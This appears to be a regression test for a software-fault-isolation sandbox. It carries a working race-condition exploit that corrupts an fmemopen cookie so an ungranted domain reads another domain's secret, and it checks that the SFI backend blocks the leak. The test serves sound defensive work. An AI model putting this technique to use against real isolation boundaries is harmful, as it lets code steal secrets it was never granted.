// fmemopen's cookie (attack round 16): a stream made for instrumented code
// lives in the loader's slots (runtime memory), and the loader accepted a
// stream whose FILE was there. With the slots full (682 fmemopen streams
// and plain ones), a second thread closing the last plain stream while
// fmemopen ran let libc's FILE take the freed slot while its cookie (the
// buffer, its size and position) had come from the domain's heap: domain
// `sneak`, with no grant, found it, pointed the buffer at vault's secret
// and fread copied the secret out. Under `sfi` a fmemopen stream whose
// cookie is not in the slots is refused too (loader/sfi_streams.c).
// Control: under `none` sneak steals.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t 2>/dev/null | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=none %t 2>/dev/null | FileCheck %s --check-prefix=NONE
// SFI: nothing stolen
// NONE: stole 'vault-secret-42'
#include "Inputs/vault.h"
#include <pthread.h>
#include <sched.h>
#include <errno.h>
#include <unistd.h>
#define say(...) do { char b_[200]; int n_ = snprintf(b_, sizeof b_, __VA_ARGS__); write(1, b_, n_); } while (0)

long sneak(const char *secret, char *loot, int mode) __dom("sneak") __entry;
long vault_word(int i) __dom("vault") __entry;
long vault_word(int i) { long w; memcpy(&w, vault_secret + 8 * i, 8); return w; }
static void vault_show(void) { long w[3] = {vault_word(0), vault_word(1), 0};
  printf("vault's secret now: '%s'\n", (char *)w); }

struct fmc { char *buffer; _Bool mybuffer, append; size_t size; int64_t pos; size_t maxpos; };

struct shared { volatile int go, done, quit; volatile long delay; FILE *s; };

static void *closer(void *p) {
  struct shared *sh = p;
  while (!sh->quit) {
    while (!sh->go && !sh->quit)
      sched_yield(); /* two spinning threads starve on a loaded machine */
    if (sh->quit) break;
    for (volatile long i = 0; i < sh->delay; i++) ;
    fclose(sh->s);
    sh->s = NULL;
    sh->go = 0;
    sh->done = 1;
  }
  return NULL;
}

static char stolen[32] __dom("sneak");
long sneak_word(int i) __dom("sneak") __entry;
long sneak_word(int i) { long w; memcpy(&w, stolen + 8 * i, 8); return w; }
long sneak(const char *secret, char *loot, int mode) {
  if (mode == 1) return *(const volatile long *)secret;
  // fill the slots: fmemopen(NULL, 300) takes 3 (cookie, buffer, FILE)
  int n3 = 0, n1 = 0;

  for (int i = 0; i < 682; i++) if (fmemopen(NULL, 300, "r")) n3++;
  FILE *last = NULL, *g;
  while ((g = fopen("/dev/null", "r"))) { last = g; n1++; if (n1 > 3000) break; }
  say("sneak: %d fmem, %d plain opened\n", n3, n1);
  if (!last) return -1;
  struct shared *sh = calloc(1, sizeof *sh);
  sh->s = last;   // holds the last slot
  pthread_t t;
  if (pthread_create(&t, NULL, closer, sh)) return -2;
  char *buf = malloc(64);
  memset(buf, 'b', 64);
  FILE *won = NULL;
  long tries;
  for (tries = 0; tries < 20000 && !won; tries++) {
    sh->delay = tries % 400;
    sh->done = 0;
    sh->go = 1;
    g = fmemopen(buf, 64, "r");
    while (!sh->done)
      sched_yield();
    if (g) { won = g; break; }
    sh->s = fopen("/dev/null", "r");
    if (!sh->s) { say("sneak: could not retake the slot\n"); sh->quit = 1; return -3; }
  }
  sh->quit = 1;
  pthread_join(t, NULL);
  say("sneak: %s after %ld tries\n", won ? "won" : "lost", tries);
  if (!won) return -4;
  // find the cookie in our heap
  char *probe = malloc(40);
  uintptr_t lo = (uintptr_t)probe & ~(uintptr_t)0xffff;
  struct fmc *c = NULL;
  for (uintptr_t a = lo; a < lo + 0x10000; a += 16) {
    struct fmc *x = (struct fmc *)a;
    if (x->buffer == buf && x->size == 64) { c = x; break; }
  }
  say("sneak: cookie %p\n", (void *)c);
  if (!c) return -5;
  // size 0: the interceptor checks 0 bytes at c->buffer; fmemopen_read
  // copies up to maxpos from c->buffer
  c->buffer = (char *)secret; c->size = 0; c->pos = 0; c->maxpos = 24;
  char got[32] = "";
  size_t k = fread(got, 1, 24, won);
  say("sneak: fread gave %zu bytes: '%.24s'\n", k, got);
  memcpy(stolen, got, 24);
  long w; memcpy(&w, got, 8);
  return w;
}

int main(int argc, char **argv) {
  const char *secret = vault_address();
  vault_show();
  long r = sneak(secret, NULL, argc > 1);
  printf("sneak returned %ld, dipc_errno %d\n", r, dipc_errno);
  long w[4] = {sneak_word(0), sneak_word(1), sneak_word(2), 0};
  printf(strstr((char *)w, "vault") ? "stole '%s'\n" : "nothing stolen%.0s\n", (char *)w);
  return 0;
}
